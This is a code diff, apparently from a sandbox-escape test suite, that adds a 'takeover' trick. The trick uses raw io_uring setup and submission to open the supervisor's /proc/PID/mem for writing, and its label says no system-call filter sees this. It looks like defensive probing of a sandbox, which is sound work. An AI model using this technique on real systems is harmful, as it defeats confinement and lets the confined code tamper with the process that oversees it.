@@ -3,6 +3,7 @@
 import contextlib
 import ctypes
 import fcntl
+import mmap
 import os
 import shutil
 import signal
@@ -50,6 +51,33 @@ def open_memory():
         Path("MARK").touch()
         return
     mark()
+
+
+@trick("takeover", "/proc/PID/mem opened for writing by io_uring, which no filter of system calls sees")
+def ring_memory():
+    if opened_by_ring(f"/proc/{SUPERVISOR}/mem", os.O_RDWR) >= 0:
+        Path("MARK").touch()
+        return
+    mark()
+
+
+def opened_by_ring(path, flags):
+    """Open a path by IORING_OP_OPENAT; return the descriptor, or an error below 0. Source: io_uring_setup(2), io_uring_enter(2)."""
+    told = ctypes.create_string_buffer(120)
+    ring = libc.syscall(425, 1, told)
+    if ring < 0:
+        return -1
+    at = struct.unpack_from("30I", told)
+    tail, array, done = at[11], at[16], at[25]
+    rings = mmap.mmap(ring, max(array + 4, done + 32), flags=mmap.MAP_SHARED | mmap.MAP_POPULATE)
+    queue = mmap.mmap(ring, 64, flags=mmap.MAP_SHARED | mmap.MAP_POPULATE, offset=0x10000000)
+    name = ctypes.create_string_buffer(path.encode())
+    queue[:64] = struct.pack("=BBHiQQIIQHHiQQ", 18, 0, 0, -100, 0, ctypes.addressof(name), 0, flags, 0, 0, 0, 0, 0, 0)
+    rings[array : array + 4] = struct.pack("=I", 0)
+    rings[tail : tail + 4] = struct.pack("=I", 1)
+    if libc.syscall(426, ring, 1, 1, 1, None, 0) < 0:
+        return -1
+    return struct.unpack_from("=i", rings, done + 8)[0]
 
 
 def stolen():
